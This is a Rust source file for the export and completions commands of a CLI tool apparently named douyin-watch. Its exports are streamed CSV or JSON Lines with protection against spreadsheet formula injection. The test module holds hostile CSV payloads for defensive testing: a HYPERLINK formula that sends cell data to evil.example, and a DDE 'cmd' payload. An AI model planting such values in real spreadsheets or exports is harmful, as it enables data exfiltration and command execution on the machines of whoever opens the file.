//! Output for other tools: `export` streams a table as CSV or JSON Lines, `completions` prints a
//! shell completion script.
//!
//! `export` reads the table in pages of [`PAGE_ROWS`] by id (keyset pagination) and writes each
//! page before reading the next, so it runs in constant memory on any number of rows.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

use chrono::Utc;
use clap::{CommandFactory, ValueEnum};

use super::{Cli, Failure, out, show};
use crate::store::{Cell, ExportFilter, ExportTable, Store, StoreError};

/// Rows read and written at a time.
pub const PAGE_ROWS: u32 = 1000;

/// What `export` writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum ExportWhat {
    /// Every version of every video (`snapshots`), `raw` and `changed_fields` as JSON text.
    Snapshots,
    /// Every HTTP attempt (`fetches`).
    Fetches,
    /// Every quota reading (`quota_samples`).
    Quota,
}

impl ExportWhat {
    fn table(self) -> ExportTable {
        match self {
            ExportWhat::Snapshots => ExportTable::Snapshots,
            ExportWhat::Fetches => ExportTable::Fetches,
            ExportWhat::Quota => ExportTable::QuotaSamples,
        }
    }
}

/// How `export` writes rows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum ExportFormat {
    /// RFC 4180 CSV (CRLF line ends, a header row), UTF-8. NULL is an empty field.
    Csv,
    /// JSON Lines: one JSON object per row, columns in table order. NULL is null.
    Jsonl,
}

/// The arguments of `export`.
#[derive(Debug, clap::Args)]
pub struct ExportArgs {
    /// The table: snapshots, fetches, or quota (the quota_samples table).
    #[arg(value_enum)]
    what: ExportWhat,
    /// Output format.
    #[arg(long, value_enum, default_value = "csv")]
    format: ExportFormat,
    /// Only rows from this long ago on, e.g. "24h", "7d" (by first_seen_at, started_at or
    /// observed_at).
    #[arg(long, value_parser = humantime::parse_duration, value_name = "DURATION")]
    since: Option<Duration>,
    /// Only this video's rows (snapshots and fetches).
    #[arg(long, value_name = "ID")]
    video: Option<String>,
    /// Write to this file instead of stdout (written whole or not at all; a symbolic link is
    /// followed, a pipe written in place, a device refused).
    #[arg(long, short, value_name = "FILE")]
    output: Option<PathBuf>,
    /// In CSV, write text that starts like a spreadsheet formula (`=`, `+`, `-`, `@`, tab, CR)
    /// as it is, instead of behind a `'` that keeps spreadsheets from running it.
    #[arg(long)]
    keep_formulas: bool,
}

/// Why an export stopped.
#[derive(Debug, thiserror::Error)]
enum ExportError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("cannot write the export: {0}")]
    Io(#[from] io::Error),
}

impl From<csv::Error> for ExportError {
    fn from(error: csv::Error) -> ExportError {
        match error.into_kind() {
            csv::ErrorKind::Io(e) => ExportError::Io(e),
            other => ExportError::Io(io::Error::other(format!("{other:?}"))),
        }
    }
}

/// `export snapshots|fetches|quota`.
pub(super) async fn export(store: &Store, args: ExportArgs) -> Result<ExitCode, Failure> {
    let table = args.what.table();
    let video_id = match &args.video {
        None => None,
        Some(_) if !table.has_video() => {
            return Err(Failure::Usage(anyhow::anyhow!(
                "--video does not apply to `export quota`: the quota is the account's, not a video's"
            )));
        }
        Some(video) => Some(show::watched_video(store, video).await?.0),
    };
    let since = match args.since {
        None => None,
        Some(duration) => Some(
            chrono::Duration::from_std(duration)
                .ok()
                .and_then(|d| Utc::now().checked_sub_signed(d))
                .ok_or_else(|| {
                    Failure::Usage(anyhow::anyhow!("--since {duration:?} is too far back"))
                })?,
        ),
    };
    let filter = ExportFilter { since, video_id };
    let format = match args.format {
        ExportFormat::Csv if !args.keep_formulas => Format::Csv { formulas: false },
        ExportFormat::Csv => Format::Csv { formulas: true },
        ExportFormat::Jsonl => Format::Jsonl,
    };
    match &args.output {
        None => {
            let stdout = io::stdout().lock();
            match write_export(store, table, &filter, format, stdout).await {
                Ok(_) => Ok(ExitCode::SUCCESS),
                // `export ... | head`: the reader has all it wants.
                Err(ExportError::Io(e)) if e.kind() == io::ErrorKind::BrokenPipe => {
                    Ok(ExitCode::SUCCESS)
                }
                Err(e) => Err(Failure::Other(e.into())),
            }
        }
        Some(path) => {
            let existed = path.exists();
            let Some(rows) = export_to_file(store, table, &filter, format, path).await? else {
                let left = if existed {
                    "left as it was"
                } else {
                    "not written"
                };
                eprintln!("export interrupted: {} {left}", shown(path));
                return Ok(ExitCode::from(super::EXIT_INTERRUPTED));
            };
            outln!(
                "wrote {rows} {} row{} to {}",
                table.name(),
                if rows == 1 { "" } else { "s" },
                shown(path)
            )?;
            Ok(ExitCode::SUCCESS)
        }
    }
}

/// Writes into a temporary file beside `path`, renamed over it once complete (None if a signal
/// stopped it first: the temporary file is removed, `path` left as it was); through a symbolic
/// link, beside the file it points to (the link stays). A pipe is written in place; a device or
/// an open stream (`/dev/...`, `/proc/...`) is refused: a file renamed over it would replace it
/// (as root, even a device node), and writing through it would land over what the shell opened.
async fn export_to_file(
    store: &Store,
    table: ExportTable,
    filter: &ExportFilter,
    format: Format,
    path: &Path,
) -> Result<Option<u64>, Failure> {
    let usage = |what: &str| Failure::Usage(anyhow::anyhow!("--output {} {what}", shown(path)));
    if path.starts_with("/dev") || path.starts_with("/proc") {
        return Err(usage(
            "is a device or stream, not a file; leave out --output to write to standard output",
        ));
    }
    if path.is_dir() {
        return Err(usage("is a folder; name a file in it"));
    }
    let is_link = std::fs::symlink_metadata(path).is_ok_and(|meta| meta.file_type().is_symlink());
    let target = if is_link {
        link_target(path).map_err(|e| usage(&format!("cannot be followed: {e}")))?
    } else {
        path.to_path_buf()
    };
    if store.owns_file(&target) {
        return Err(usage(
            "is the database itself (or a file SQLite keeps beside it); name another file",
        ));
    }
    let exporting = |e: ExportError| {
        Failure::Other(anyhow::Error::from(e).context(format!("exporting to {}", shown(path))))
    };
    if std::fs::metadata(&target).is_ok_and(|meta| !meta.is_file()) {
        let pipe = std::fs::OpenOptions::new()
            .write(true)
            .open(&target)
            .map_err(|e| usage(&format!("cannot be written: {e}")))?;
        return write_export(store, table, filter, format, pipe)
            .await
            .map(Some)
            .map_err(exporting);
    }
    let name = target
        .file_name()
        .ok_or_else(|| usage("is not a file name"))?;
    // Listening before the temporary file exists: a signal in between would leave it behind.
    let stopped = stop_signals()
        .map_err(|e| Failure::Other(anyhow::Error::from(e).context("cannot listen for signals")))?;
    let mut partial_name = std::ffi::OsString::from(".");
    partial_name.push(name);
    partial_name.push(format!(".{}.partial", std::process::id()));
    let partial = target.with_file_name(partial_name);
    // A folder that is missing or not writable is bad input, like a bad path.
    let file = File::create(&partial).map_err(|e| usage(&format!("cannot be written: {e}")))?;
    let written = async {
        let rows = write_export(store, table, filter, format, file).await?;
        // Tests hold a finished export here to interrupt it.
        crate::panics::failpoint_pause("export-written").await;
        std::fs::rename(&partial, &target)?;
        Ok::<u64, ExportError>(rows)
    };
    // Ctrl-C on a long export must not leave a hidden file of gigabytes behind.
    let written = tokio::select! {
        written = written => written,
        () = stopped => {
            let _ = std::fs::remove_file(&partial);
            return Ok(None);
        }
    };
    written.map(Some).map_err(|e| {
        let _ = std::fs::remove_file(&partial);
        exporting(e)
    })
}

/// `path` as messages show it: a name cannot drive the terminal.
fn shown(path: &Path) -> String {
    show::escape_controls(&path.display().to_string())
}

/// Where the symbolic link `path` ends: the file at the end of its chain of links, which may not
/// exist yet (it is then made, and every link stays).
fn link_target(path: &Path) -> io::Result<PathBuf> {
    // As many links as the kernel follows before it gives up (Linux's MAXSYMLINKS).
    const MAX_LINKS: usize = 40;
    let mut at = path.to_path_buf();
    for _ in 0..MAX_LINKS {
        if !std::fs::symlink_metadata(&at).is_ok_and(|meta| meta.file_type().is_symlink()) {
            return Ok(at);
        }
        let to = std::fs::read_link(&at)?;
        at = match at.parent() {
            Some(folder) => folder.join(to),
            None => to,
        };
    }
    Err(io::Error::other("too many levels of symbolic links"))
}

/// Resolves on SIGINT, SIGTERM or SIGHUP (the terminal or ssh session closed), listening from
/// the moment it is made rather than from its first poll.
#[cfg(unix)]
fn stop_signals() -> io::Result<impl Future<Output = ()>> {
    use tokio::signal::unix::{SignalKind, signal};
    let mut interrupt = signal(SignalKind::interrupt())?;
    let mut terminate = signal(SignalKind::terminate())?;
    let mut hangup = signal(SignalKind::hangup())?;
    Ok(async move {
        tokio::select! {
            _ = interrupt.recv() => {}
            _ = terminate.recv() => {}
            _ = hangup.recv() => {}
        }
    })
}

/// Resolves on Ctrl-C.
#[cfg(not(unix))]
fn stop_signals() -> io::Result<impl Future<Output = ()>> {
    Ok(async {
        let _ = tokio::signal::ctrl_c().await;
    })
}

/// Streams the rows of `table` that pass `filter` to `out`; returns how many were written.
async fn write_export<W: Write>(
    store: &Store,
    table: ExportTable,
    filter: &ExportFilter,
    format: Format,
    out: W,
) -> Result<u64, ExportError> {
    let mut pages = store.export_pages(table, filter, PAGE_ROWS).await?;
    let columns = pages.columns().to_vec();
    let mut rows = 0u64;
    match format {
        Format::Csv { formulas } => {
            let mut writer = csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(out);
            writer.write_record(&columns)?;
            loop {
                let page = pages.next_page().await?;
                if page.is_empty() {
                    break;
                }
                for row in &page {
                    writer.write_record(row.cells.iter().map(|cell| csv_field(cell, formulas)))?;
                }
                rows += page.len() as u64;
            }
            writer.flush()?;
        }
        Format::Jsonl => {
            let mut writer = BufWriter::new(out);
            let keys: Vec<String> = columns
                .iter()
                .map(|c| serde_json::to_string(c).map_err(io::Error::from))
                .collect::<Result<_, _>>()?;
            loop {
                let page = pages.next_page().await?;
                if page.is_empty() {
                    break;
                }
                for row in &page {
                    write_json_line(&mut writer, &keys, &row.cells)?;
                }
                rows += page.len() as u64;
            }
            writer.flush()?;
        }
    }
    Ok(rows)
}

/// The format as written: [`ExportFormat`] with its options.
#[derive(Debug, Clone, Copy)]
enum Format {
    Csv { formulas: bool },
    Jsonl,
}

/// A cell as CSV text: NULL as an empty field, numbers in decimal, BLOBs in hex. Unless
/// `formulas`, text that a spreadsheet would take for a formula gets a leading `'` (titles come
/// from any uploader: `=HYPERLINK(...)` would run when the file is opened in Excel or WPS).
fn csv_field(cell: &Cell, formulas: bool) -> String {
    match cell {
        Cell::Null => String::new(),
        Cell::Integer(n) => n.to_string(),
        Cell::Real(x) => x.to_string(),
        Cell::Text(text) if !formulas && text.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
            format!("'{text}")
        }
        Cell::Text(text) => text.clone(),
        Cell::Blob(bytes) => hex(bytes),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// One JSON object on one line, keys (already JSON strings) in column order.
fn write_json_line<W: Write>(out: &mut W, keys: &[String], cells: &[Cell]) -> io::Result<()> {
    out.write_all(b"{")?;
    for (i, (key, cell)) in keys.iter().zip(cells).enumerate() {
        if i > 0 {
            out.write_all(b",")?;
        }
        out.write_all(key.as_bytes())?;
        out.write_all(b":")?;
        match cell {
            Cell::Null => out.write_all(b"null")?,
            Cell::Integer(n) => write!(out, "{n}")?,
            Cell::Real(x) => serde_json::to_writer(&mut *out, x).map_err(io::Error::from)?,
            Cell::Text(text) => serde_json::to_writer(&mut *out, text).map_err(io::Error::from)?,
            Cell::Blob(bytes) => {
                serde_json::to_writer(&mut *out, &hex(bytes)).map_err(io::Error::from)?;
            }
        }
    }
    out.write_all(b"}\n")
}

/// `completions bash|zsh|fish|...`: the completion script on stdout.
pub(super) fn completions(shell: clap_complete::Shell) -> Result<ExitCode, Failure> {
    let mut command = Cli::command();
    // Into memory first: clap_complete panics when it cannot write (`completions bash | head`).
    let mut script = Vec::new();
    clap_complete::generate(shell, &mut command, "douyin-watch", &mut script);
    out(String::from_utf8_lossy(&script))?;
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_lines_keep_column_order_and_types() {
        let keys: Vec<String> = ["id", "title", "gone", "ratio", "blob"]
            .iter()
            .map(|k| serde_json::to_string(k).expect("key"))
            .collect();
        let cells = [
            Cell::Integer(7),
            Cell::Text("引号 \"and\" a\nnewline".to_owned()),
            Cell::Null,
            Cell::Real(0.5),
            Cell::Blob(vec![0, 255]),
        ];
        let mut out = Vec::new();
        write_json_line(&mut out, &keys, &cells).expect("written");
        let text = String::from_utf8(out).expect("utf-8");
        assert_eq!(text.matches('\n').count(), 1, "{text}");
        assert!(text.starts_with("{\"id\":7,\"title\":"), "{text}");
        let value: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
        assert_eq!(value["title"], "引号 \"and\" a\nnewline");
        assert_eq!(value["gone"], serde_json::Value::Null);
        assert_eq!(value["ratio"], 0.5);
        assert_eq!(value["blob"], "00ff");
    }

    #[test]
    fn csv_fields_are_plain_text() {
        for formulas in [false, true] {
            assert_eq!(csv_field(&Cell::Null, formulas), "");
            assert_eq!(csv_field(&Cell::Integer(-3), formulas), "-3");
            assert_eq!(csv_field(&Cell::Real(-1.25), formulas), "-1.25");
            assert_eq!(csv_field(&Cell::Text("a,b".to_owned()), formulas), "a,b");
            assert_eq!(csv_field(&Cell::Blob(vec![1, 2]), formulas), "0102");
        }
    }

    #[test]
    fn csv_text_that_would_run_as_a_formula_is_kept_from_running() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let cell = Cell::Text(hostile.to_owned());
            assert_eq!(csv_field(&cell, false), format!("'{hostile}"));
            assert_eq!(csv_field(&cell, true), hostile, "--keep-formulas");
        }
        for plain in ["标题 = 1", "a-b", "", "'quoted", "[\"title\"]"] {
            assert_eq!(csv_field(&Cell::Text(plain.to_owned()), false), plain);
        }
    }
}
